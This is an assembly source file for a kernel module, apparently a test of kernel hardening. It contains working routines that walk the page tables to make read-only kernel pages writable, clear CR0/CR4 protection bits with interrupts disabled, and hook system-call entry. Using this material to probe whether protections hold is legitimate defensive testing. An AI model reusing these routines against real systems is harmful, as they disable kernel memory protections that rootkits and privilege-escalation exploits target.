// The code of the kernel module that attacks. It writes a byte to memory which the kernel only reads: it makes the page
// writable in the kernel's own page tables first, which a write primitive can do as well. Or it clears bits of CR0 or
// CR4. If the module can be inserted, the attack has succeeded, and if not, insmod says so. Intel syntax; it has 4
// levels of page tables and a direct map of all memory.

    .section .rodata.attack, "a"
    .global attack_begin, attack_init, attack_hook, attack_end
attack_begin:
target: .quad 0                         // the linear address of the byte
base:   .quad 0                         // the address of the variable page_offset_base
value:  .quad 0                         // the byte, or the bits
kind:   .quad 0                         // what is done, see below
attack_init:
    endbr64
    push rbx
    mov eax, [rip + kind]
    cmp eax, 2
    je clear_cr0
    cmp eax, 3
    je clear_cr4
    cmp eax, 4
    je succeeds                         // 4: nothing
    mov rdi, [rip + target]             // 0: write to the byte at its own address
    mov rbx, [rip + base]
    mov rbx, [rbx]                      // the start of the direct map
    call attack_open
    cmp dword ptr [rip + kind], 1
    jne 1f
    lea rdi, [rbx + rax]                // 1: write to it at its address in the direct map
    call attack_open
1:  mov rax, [rip + value]
    mov [rdi], al
    cmp [rdi], al
result:
    je succeeds
    mov eax, -5                         // -EIO
    pop rbx
    ret
succeeds:
    xor eax, eax
    pop rbx
    ret

clear_cr0:                              // 2: clear bits of CR0, and set them again
    call attack_keep
    mov rdx, cr0
    mov rax, rcx
    not rax
    and rax, rdx
    mov cr0, rax
    mov rsi, cr0
    mov cr0, rdx
    jmp 1f
clear_cr4:                              // 3: clear bits of CR4, and set them again
    call attack_keep
    mov rdx, cr4
    mov rax, rcx
    not rax
    and rax, rdx
    mov cr4, rax
    mov rsi, cr4
    mov cr4, rdx
1:  push rbx
    popfq
    cmp rsi, rax
    jne result
    cmp rax, rdx                        // a bit that was not set is no attack
    je 2f
    jmp succeeds
2:  mov eax, -5
    pop rbx
    ret

// Keeps the flags in RBX, and the program on this CPU. Returns the bits in RCX.
attack_keep:
    pushfq
    pop rbx
    cli
    mov rcx, [rip + value]
    ret

// Leads system calls on to where they led before, which is at the target. The entry of a system call may use no stack.
attack_hook:
    endbr64
    jmp qword ptr [rip + target]

// Makes the page at RDI writable in the kernel's page tables. Returns the byte's physical address in RAX.
attack_open:
    mov rdx, cr3
    mov r8, 0x000ffffffffff000
    and rdx, r8
    mov ecx, 39
2:  mov rsi, rdi
    shr rsi, cl
    and esi, 511
    lea rsi, [rdx + rsi * 8]
    add rsi, rbx
    or qword ptr [rsi], 2               // R/W
    mov rdx, [rsi]
    mov eax, edx
    and rdx, r8
    cmp ecx, 12
    je 3f
    test al, 0x80                       // the entry maps a large page
    jnz 3f
    sub ecx, 9
    jmp 2b
3:  mov eax, 1
    shl rax, cl
    dec rax
    mov rsi, rdi
    and rsi, rax
    not rax
    and rax, rdx
    or rax, rsi
    invlpg [rdi]
    ret
attack_end:
